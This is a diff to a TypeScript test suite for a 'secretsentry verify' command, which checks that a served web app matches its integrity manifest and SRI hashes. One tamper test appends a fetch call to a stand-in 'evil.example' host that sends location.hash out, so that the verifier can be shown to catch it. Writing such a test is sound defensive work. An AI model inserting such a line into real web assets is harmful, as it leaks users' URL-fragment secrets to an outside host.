@@ -4,33 +4,44 @@ import fs from 'node:fs'
 import http from 'node:http'
 import type { AddressInfo } from 'node:net'
 import path from 'node:path'
-import { afterEach, describe, expect, it } from 'vitest'
-import { embeddedManifest } from '../bundled.ts'
-import { cleanUp, cli, serve, tempDir, WEB_DIST } from '../test/support.ts'
+import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest'
+import { buildBundle, cleanUp, cli, serve, tempDir, type Bundle } from '../test/support.ts'
 import { integrityMatches, subresources, verifyInstance } from './verify.ts'
 
-afterEach(cleanUp)
-
-const manifest = embeddedManifest()
+// The command as shipped: its built-in manifest and the web copy beside it come from one build.
+let bundle: Bundle
+let manifest: Record<string, string>
 // The entry script and a stylesheet of the main page, as its SRI tags name them.
-const mainPage = subresources(fs.readFileSync(path.join(WEB_DIST, 'index.html'), 'utf8'))
-const assetJs = mainPage.find((r) => r.url.endsWith('.js'))?.url.slice(1) as string
-const assetCss = mainPage.find((r) => r.url.endsWith('.css'))?.url.slice(1) as string
+let assetJs: string
+let assetCss: string
+
+beforeAll(() => {
+  bundle = buildBundle()
+  manifest = bundle.manifest
+  const mainPage = subresources(fs.readFileSync(path.join(bundle.web, 'index.html'), 'utf8'))
+  assetJs = mainPage.find((r) => r.url.endsWith('.js'))?.url.slice(1) as string
+  assetCss = mainPage.find((r) => r.url.endsWith('.css'))?.url.slice(1) as string
+})
+afterEach(cleanUp)
+afterAll(() => bundle.remove())
 
 /** A copy of the built web app to tamper with. */
 function webCopy(): string {
   const dir = path.join(tempDir('ss-web-'), 'web')
-  fs.cpSync(WEB_DIST, dir, { recursive: true })
+  fs.cpSync(bundle.web, dir, { recursive: true })
   return dir
 }
+
+const run = (args: string[]) => cli(args, { bundle: bundle.file })
+const serveIt = (flags: string[] = []) => serve(flags, { bundle: bundle.file })
 
 const line = (status: string, file: string) =>
   new RegExp(`^${status} +${file.replaceAll('.', '\\.')}(  |$)`, 'm')
 
 describe('secretsentry verify', () => {
   it('passes against a running instance serving the built app, every file ok, exit 0', async () => {
-    const server = await serve()
-    const r = await cli(['verify', server.url])
+    const server = await serveIt()
+    const r = await run(['verify', server.url])
     expect(r.err).toBe('')
     expect(r.code).toBe(0)
     for (const file of Object.keys(manifest)) expect(r.out).toMatch(line('ok', file))
@@ -45,8 +56,8 @@ describe('secretsentry verify', () => {
   it('fails against a tampered copy of the static dir, naming the file, exit 1', async () => {
     const web = webCopy()
     fs.appendFileSync(path.join(web, assetJs), '\n;fetch("https://evil.example/"+location.hash)')
-    const server = await serve(['--static-dir', web])
-    const r = await cli(['verify', server.url])
+    const server = await serveIt(['--static-dir', web])
+    const r = await run(['verify', server.url])
     expect(r.code).toBe(1)
     expect(r.out).toMatch(line('MISMATCH', assetJs))
     // Its SRI hash in the pages no longer matches either, and the rest is fine.
@@ -74,9 +85,9 @@ describe('secretsentry verify', () => {
       .digest('hex')
     published['extra.js'] = crypto.createHash('sha256').update('console.log(1)').digest('hex')
     fs.writeFileSync(path.join(web, 'manifest.sha256.json'), JSON.stringify(published))
-    const server = await serve(['--static-dir', web])
+    const server = await serveIt(['--static-dir', web])
 
-    const r = await cli(['verify', server.url])
+    const r = await run(['verify', server.url])
     expect(r.code).toBe(1)
     expect(r.out).toMatch(line('MISMATCH', 'index.html'))
     expect(r.out).toMatch(line('MISMATCH', '/'))
@@ -88,8 +99,8 @@ describe('secretsentry verify', () => {
   it('fails when the instance publishes no manifest, or cannot be reached', async () => {
     const web = webCopy()
     fs.rmSync(path.join(web, 'manifest.sha256.json'))
-    const server = await serve(['--static-dir', web])
-    const r = await cli(['verify', server.url])
+    const server = await serveIt(['--static-dir', web])
+    const r = await run(['verify', server.url])
     expect(r.code).toBe(1)
     expect(r.out).toMatch(line('missing', '/.well-known/secretsentry/manifest.json'))
 
@@ -97,7 +108,7 @@ describe('secretsentry verify', () => {
     await new Promise<void>((resolve) => closed.listen(0, '127.0.0.1', resolve))
     const { port } = closed.address() as AddressInfo
     await new Promise((resolve) => closed.close(resolve))
-    const unreachable = await cli(['verify', `http://127.0.0.1:${port}/`])
+    const unreachable = await run(['verify', `http://127.0.0.1:${port}/`])
     expect(unreachable.code).toBe(1)
     expect(unreachable.err).toMatch(/^secretsentry verify: fetch failed: .*ECONNREFUSED/)
   })
@@ -116,7 +127,7 @@ describe('secretsentry verify', () => {
             : url === '/s'
               ? 's/index.html'
               : url.slice(1)
-      const file = path.join(WEB_DIST, rel)
+      const file = path.join(bundle.web, rel)
       if (!fs.existsSync(file)) {
         res.writeHead(404).end()
         return
